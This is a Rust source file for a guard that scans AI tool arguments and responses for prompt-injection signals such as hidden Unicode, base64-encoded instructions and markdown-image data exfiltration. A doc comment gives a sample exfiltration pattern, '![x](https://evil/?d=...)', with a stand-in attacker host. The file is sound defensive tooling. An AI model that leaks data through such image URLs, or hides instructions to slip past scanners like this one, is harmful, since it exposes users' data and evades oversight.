//! prompt-injection: scores the strings of tool arguments and responses for weighted
//! injection signals. Score = sum of the weights of the distinct categories found anywhere
//! in the payload: at or above `deny_threshold` → deny `prompt_injection`, at or above
//! `warn_threshold` → warn, else allow.
//!
//! Cost is linear in the payload: each string is lowercased and split into words in one
//! pass ([`guard_kit::text::Normalized`]), phrase rules start only at words that begin a
//! rule (one binary search per word), and a few markers are substring searches.

pub mod catalog;
pub mod settings;

use guard_kit::rules::RuleSet;
use guard_kit::text::{self, Normalized};
use guard_kit::{Context, Guard, Host, Level, Verdict, json};
use serde_json::{Value, json};

pub use settings::Settings;

/// Deny code.
pub const CODE: &str = "prompt_injection";

/// Longest evidence kept per finding, in characters.
const EVIDENCE_CHARS: usize = 80;

/// The first sighting of one category.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    /// Category name (see [`catalog::CATEGORIES`]).
    pub category: &'static str,
    /// The category's configured weight.
    pub weight: f64,
    /// JSON Pointer of the string it was found in ("" for the root or non-JSON text).
    pub path: String,
    /// What matched, shortened.
    pub evidence: String,
}

/// The outcome of a scan.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Report {
    /// Sum of the weights of the distinct categories found.
    pub score: f64,
    /// One finding per category, in the order first seen.
    pub findings: Vec<Finding>,
}

/// A compiled scanner; reuse it across payloads to compile the rules once.
pub struct Scanner<'s> {
    settings: &'s Settings,
    rules: RuleSet,
    norm: Normalized,
    decoded: Normalized,
    report: Report,
}

impl<'s> Scanner<'s> {
    /// A scanner for `settings`.
    pub fn new(settings: &'s Settings) -> Self {
        Scanner {
            settings,
            rules: catalog::rule_set(),
            norm: Normalized::default(),
            decoded: Normalized::default(),
            report: Report::default(),
        }
    }

    /// Scans every string of a JSON document; text that is not JSON is scanned as one string.
    pub fn scan_json(&mut self, text: &str) -> Report {
        self.report = Report::default();
        match serde_json::from_str::<Value>(text) {
            Ok(value) => {
                json::for_each_string(&value, &mut |visit, s| self.string(visit.pointer, s))
            }
            Err(_) => self.string("", text),
        }
        std::mem::take(&mut self.report)
    }

    /// Scans one piece of text.
    pub fn scan_text(&mut self, text: &str) -> Report {
        self.report = Report::default();
        self.string("", text);
        std::mem::take(&mut self.report)
    }

    fn string(&mut self, path: &str, s: &str) {
        self.norm.reset(s);
        if let Some(h) = self.norm.hidden.iter().find(|h| h.count > 0) {
            self.add(catalog::HIDDEN_UNICODE, path, h.evidence());
        }
        let mut hits = Vec::new();
        self.rules.scan(&self.norm, &mut |hit| {
            hits.push((hit.category, hit.evidence))
        });
        if let Some(evidence) = markdown_image_exfiltration(&self.norm.lower) {
            hits.push((catalog::DATA_EXFILTRATION, evidence));
        }
        for &(start, end) in &self.norm.base64_runs {
            if let Some(decoded) =
                text::decode_base64(&s[start..end]).filter(|d| mostly_printable(d))
            {
                self.decoded.reset(&String::from_utf8_lossy(&decoded));
                let before = hits.len();
                self.rules.scan(&self.decoded, &mut |hit| {
                    hits.push((hit.category, format!("base64: {}", hit.evidence)))
                });
                if hits.len() > before {
                    hits.push((
                        catalog::ENCODED_PAYLOAD,
                        format!("base64 text: {}", self.decoded.word_text),
                    ));
                }
            }
        }
        for (category, evidence) in hits {
            self.add(category, path, evidence);
        }
    }

    fn add(&mut self, category: usize, path: &str, evidence: String) {
        let (name, _) = catalog::CATEGORIES[category];
        let weight = self.settings.weights[category];
        if weight <= 0.0 || self.report.findings.iter().any(|f| f.category == name) {
            return;
        }
        let evidence = evidence.chars().take(EVIDENCE_CHARS).collect();
        self.report.score += weight;
        self.report.findings.push(Finding {
            category: name,
            weight,
            path: path.to_string(),
            evidence,
        });
    }
}

/// A markdown image whose URL carries a query string (`![x](https://evil/?d=...)`), the
/// classic way to make a client leak data by rendering an image.
fn markdown_image_exfiltration(lower: &str) -> Option<String> {
    const ALT_MAX: usize = 200;
    const URL_MAX: usize = 2_000;
    let bytes = lower.as_bytes();
    let mut from = 0;
    while let Some(at) = lower[from..].find("![").map(|p| p + from) {
        let rest = &bytes[at..];
        let window = &rest[..rest.len().min(ALT_MAX)];
        if let Some(close) = window.windows(6).position(|w| w == b"](http") {
            let tail = &rest[close..rest.len().min(close + URL_MAX)];
            let url_end = close + tail.iter().position(|&b| b == b')').unwrap_or(tail.len());
            let url = &rest[close + 2..url_end];
            if url.contains(&b'?') && url.contains(&b'=') {
                return Some(String::from_utf8_lossy(&rest[..url_end]).into_owned());
            }
        }
        from = at + 2;
    }
    None
}

fn mostly_printable(bytes: &[u8]) -> bool {
    let printable = bytes
        .iter()
        .filter(|&&b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\t')
        .count();
    bytes.len() >= 12 && printable * 10 >= bytes.len() * 9
}

/// The verdict for a report; `what` names the payload in messages.
pub fn verdict(report: &Report, what: &str, settings: &Settings) -> Verdict {
    let summary = report
        .findings
        .iter()
        .map(|f| format!("{} at {}", f.category, display_path(&f.path)))
        .collect::<Vec<_>>();
    let score = guard_kit::settings::number_json(report.score);
    if report.score > 0.0 && report.score >= settings.deny_threshold {
        let details = json!({
            "score": score,
            "deny_threshold": guard_kit::settings::number_json(settings.deny_threshold),
            "findings": report.findings.iter().map(|f| json!({
                "category": f.category,
                "weight": guard_kit::settings::number_json(f.weight),
                "path": f.path,
                "evidence": f.evidence,
            })).collect::<Vec<_>>(),
        });
        let message = format!(
            "Prompt injection detected in {what} (score {score}): {}",
            summary.join(", ")
        );
        return Verdict::deny(CODE, message, details);
    }
    if report.score > 0.0 && report.score >= settings.warn_threshold {
        return Verdict::Warn(vec![format!(
            "possible prompt injection in {what} (score {score}, deny at {}): {}",
            settings.deny_threshold,
            summary.join(", ")
        )]);
    }
    Verdict::Allow
}

fn display_path(path: &str) -> &str {
    if path.is_empty() { "/" } else { path }
}

/// Phase `tool_invoke`: screens the argument strings.
pub fn evaluate_tool_invoke(arguments: &str, settings: &Settings) -> Verdict {
    verdict(
        &Scanner::new(settings).scan_json(arguments),
        "tool arguments",
        settings,
    )
}

/// Phase `response`: screens the response strings.
pub fn evaluate_response(response: &str, settings: &Settings) -> Verdict {
    verdict(
        &Scanner::new(settings).scan_json(response),
        "response",
        settings,
    )
}

/// The guard, for [`guard_kit::export_guard!`].
pub struct PromptInjection;

fn logged(host: &dyn Host, verdict: Verdict) -> Verdict {
    if let Verdict::Deny(reason) = &verdict {
        host.log(Level::Warn, &reason.message);
    }
    verdict
}

impl Guard for PromptInjection {
    fn settings_schema() -> String {
        Settings::schema()
    }

    fn default_config() -> String {
        Settings::default().to_json()
    }

    fn tool_invoke(
        host: &dyn Host,
        _tool: &str,
        arguments: &str,
        _ctx: &Context,
    ) -> Result<Verdict, String> {
        Ok(logged(
            host,
            evaluate_tool_invoke(arguments, &Settings::from_host(host)?),
        ))
    }

    fn response(host: &dyn Host, response: &str, _ctx: &Context) -> Result<Verdict, String> {
        Ok(logged(
            host,
            evaluate_response(response, &Settings::from_host(host)?),
        ))
    }
}

guard_kit::export_guard!(crate::PromptInjection);

#[cfg(test)]
mod tests;
